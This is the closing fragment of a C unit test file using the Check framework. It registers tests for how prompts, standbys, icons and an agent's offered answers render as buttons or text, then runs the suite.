	tcase_add_test(c, prompts_and_standbys_have_their_buttons);
	tcase_add_test(c, each_type_of_prompt_has_its_icon);
	tcase_add_test(c, the_answers_that_an_agent_offers_are_buttons_in_its_words);
	tcase_add_test(c, a_form_of_one_choice_is_buttons_and_any_other_is_words);
	suite_add_tcase(s, c);
	return run_suite(s);
}
